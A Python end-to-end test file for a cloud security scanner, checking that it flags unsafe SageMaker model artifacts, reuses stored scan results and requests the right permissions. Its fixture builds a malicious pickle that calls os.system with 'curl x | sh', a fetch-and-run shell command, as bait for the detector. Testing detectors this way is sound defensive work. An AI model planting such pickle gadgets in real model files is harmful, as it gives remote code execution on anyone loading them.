"""The real ``cspm scan aws --inspect-artifacts`` process against moto's server (127.0.0.1):
the verdicts reach report.json, and a rescan with ``--store`` downloads nothing that has not
changed; ``cspm permissions aws --inspect-artifacts`` adds what reading artifacts needs."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import boto3
import pytest
from e2e.harness import run_cspm, scan_aws

from support.faults import FaultServer
from support.model_corpus import reduce_pickle, safetensors, tar_gz

pytestmark = pytest.mark.e2e

ACCOUNT = "123456789012"
IMAGE = f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/serve:1.0"
CHECKS = ("--checks", "*.model_artifact_*", "--services", "sagemaker")


@pytest.fixture(scope="module")
def server() -> Iterator[FaultServer]:
    running = FaultServer().start()
    running.reset()
    s3 = boto3.client("s3", region_name="us-east-1", endpoint_url=running.url)
    sm = boto3.client("sagemaker", region_name="us-east-1", endpoint_url=running.url)
    s3.create_bucket(Bucket="ml-models")
    objects = {
        "fraud/model.tar.gz": tar_gz({"model.pth": reduce_pickle(os.system, "curl x | sh")}),
        "churn/model.safetensors": safetensors(),
    }
    for key, body in objects.items():
        s3.put_object(Bucket="ml-models", Key=key, Body=body)
        sm.create_model(
            ModelName=key.split("/")[0],
            ExecutionRoleArn=f"arn:aws:iam::{ACCOUNT}:role/serve",
            PrimaryContainer={"Image": IMAGE, "ModelDataUrl": f"s3://ml-models/{key}"},
        )
    yield running
    running.reset()
    running.stop()


def test_a_rescan_with_the_store_downloads_nothing_unchanged(server: FaultServer, tmp_path: Path) -> None:
    store = f"sqlite:///{tmp_path / 'history.db'}"
    first = scan_aws(server.url, tmp_path / "one", *CHECKS, "--inspect-artifacts", "--store", store, "--quiet")
    assert first.returncode == 0, first.explain()
    report = first.report
    assert report.status("aws.sagemaker.model_artifact_is_free_of_unsafe_code", "fraud") == "FAIL"
    assert report.status("aws.sagemaker.model_artifact_uses_safe_format", "churn") == "PASS"
    imports = report.finding("aws.sagemaker.model_artifact_is_free_of_unsafe_code", "fraud")["evidence"]["artifacts"]
    assert imports[0]["dangerous_imports"][0]["name"] == "system"
    gets_before = len([r for r in server.faults.calls() if r.call.name == "s3:GET object"])
    assert gets_before == 2

    again = scan_aws(server.url, tmp_path / "two", *CHECKS, "--inspect-artifacts", "--store", store, "--quiet")

    assert again.returncode == 0, again.explain()
    assert len([r for r in server.faults.calls() if r.call.name == "s3:GET object"]) == gets_before
    artifacts = again.report.data["artifacts"]
    assert {a["reused_from"] for a in artifacts} == {report.scan["id"]}
    assert all(a["bytes_read"] == 0 and a["sha256"] for a in artifacts)
    assert again.report.status("aws.sagemaker.model_artifact_is_free_of_unsafe_code", "fraud") == "FAIL"


def test_without_the_flag_the_artifact_checks_do_not_run(server: FaultServer, tmp_path: Path) -> None:
    done = scan_aws(server.url, tmp_path, "--services", "sagemaker", "--quiet")
    assert done.returncode == 0, done.explain()
    assert not [f for f in done.report.findings if ".model_artifact_" in f["check_id"]]
    assert done.report.data["artifacts"] is None
    only = scan_aws(server.url, tmp_path / "only", *CHECKS, "--quiet")
    assert only.returncode == 2 and "--inspect-artifacts" in only.stderr


def test_permissions_with_the_flag_add_object_reads() -> None:
    plain = run_cspm("permissions", "aws")
    flagged = run_cspm("permissions", "aws", "--inspect-artifacts")
    added = set(json.loads(flagged.stdout)["Statement"][0]["Action"]) - set(
        json.loads(plain.stdout)["Statement"][0]["Action"]
    )
    assert added == {"s3:GetObject", "kms:Decrypt", "s3:ListBucket"}  # ListBucket: Bedrock import folders
